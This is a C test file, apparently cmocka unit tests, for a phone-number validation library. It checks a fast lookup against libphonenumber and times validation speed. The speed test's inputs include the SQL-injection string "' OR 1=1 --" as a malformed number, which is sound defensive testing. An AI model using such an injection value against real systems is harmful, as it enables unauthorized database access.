//  Compare one national number's fast lookup with libphonenumber's own.
static int
s_compare (const char *national)
{
    char fast_region [PP_PHONE_REGION_SIZE], ref_region [PP_PHONE_REGION_SIZE];
    pp_line_type_t fast_line, ref_line;
    int fast = pp_phone_plan (national, fast_region, &fast_line);
    int ref = pp_phone_plan_reference (national, ref_region, &ref_line);
    if (fast == ref && strcmp (fast_region, ref_region) == 0 && fast_line == ref_line)
        return 0;
    printf ("%s: fast %d %s %s, libphonenumber %d %s %s\n", national, fast, fast_region,
            pp_line_type_name (fast_line), ref, ref_region, pp_line_type_name (ref_line));
    return 1;
}

//  The fast tables against PhoneNumberUtil itself: every area code with
//  pseudo-random exchanges and lines (a fixed seed, so failures repeat; the
//  area codes 000-199, all invalid, fewer), and every exchange of the area
//  codes with the most detailed patterns.
static void
test_pp_phone_plan_matches_library (void **state)
{
    uint32_t seed = 20240501;
    int failures = 0, valid = 0, total = 0;
    char national [16];
    for (int npa = 0; npa <= 999; npa++)
        for (int k = 0; k < (npa < 200 ? 2 : 6); k++) {
            seed = seed * 1103515245u + 12345u;
            int nxx = (int) ((seed >> 8) % 1000);
            seed = seed * 1103515245u + 12345u;
            int line = (int) ((seed >> 8) % 10000);
            snprintf (national, sizeof (national), "%03d%03d%04d", npa, nxx, line);
            failures += s_compare (national);
            valid += pp_phone_plan (national, NULL, NULL) == 0;
            total++;
        }
    const int detailed [] = { 340, 505, 670, 671, 684, 787, 876, 658, 600, 310, 800, 900, 500,
                              524, 767, 76 };
    for (size_t i = 0; i < sizeof (detailed) / sizeof (detailed [0]); i++)
        for (int nxx = 0; nxx < 1000; nxx++) {
            seed = seed * 1103515245u + 12345u;
            snprintf (national, sizeof (national), "%03d%03d%04d", detailed [i], nxx,
                      (int) ((seed >> 8) % 10000));
            failures += s_compare (national);
            valid += pp_phone_plan (national, NULL, NULL) == 0;
            total++;
        }
    printf ("%d numbers compared, %d valid\n", total, valid);
    //  Both kinds must be well represented, or the comparison proves little.
    assert_true (valid > total / 4);
    assert_true (valid < total * 3 / 4);
    assert_int_equal (failures, 0);
}

//  A few microseconds per check at most, in every build but the sanitizers',
//  for good and bad numbers alike.
static void
test_pp_phone_speed (void **state)
{
    const char *numbers [] = { "(415) 555-2671", "+1 787 281 4455", "416-555-2671",
                               "123-867-5309", "1-800-356-9377", "+44 20 7946 0958",
                               "555-5555", "' OR 1=1 --" };
    const int rounds = 20000;
    char e164 [PP_PHONE_E164_SIZE];
    for (size_t n = 0; n < sizeof (numbers) / sizeof (numbers [0]); n++) {
        double start = s_now_us ();
        int ok = 0;
        for (int i = 0; i < rounds; i++)
            ok += pp_phone_check (numbers [n], e164, sizeof (e164), NULL) == PP_PHONE_OK;
        double each = (s_now_us () - start) / rounds;
        printf ("%-16s %6.2f us per check\n", numbers [n], each);
#if S_SANITIZED
        assert_true (each < 50.0);
#else
        assert_true (each < 5.0);
#endif
        assert_true (ok == 0 || ok == rounds);
    }
}

int
main (void)
{
    const struct CMUnitTest tests [] = {
        cmocka_unit_test (test_pp_phone_threads),
        cmocka_unit_test (test_pp_phone_cases),
        cmocka_unit_test (test_pp_phone_init),
        cmocka_unit_test (test_pp_phone_fictitious_range),
        cmocka_unit_test (test_pp_phone_n11),
        cmocka_unit_test (test_pp_phone_patterns),
        cmocka_unit_test (test_pp_phone_outputs),
        cmocka_unit_test (test_pp_phone_length),
        cmocka_unit_test (test_pp_phone_names),
        cmocka_unit_test (test_pp_phone_plan_args),
        cmocka_unit_test (test_pp_phone_plan_matches_library),
        cmocka_unit_test (test_pp_phone_speed),
    };
    return cmocka_run_group_tests (tests, NULL, NULL);
}
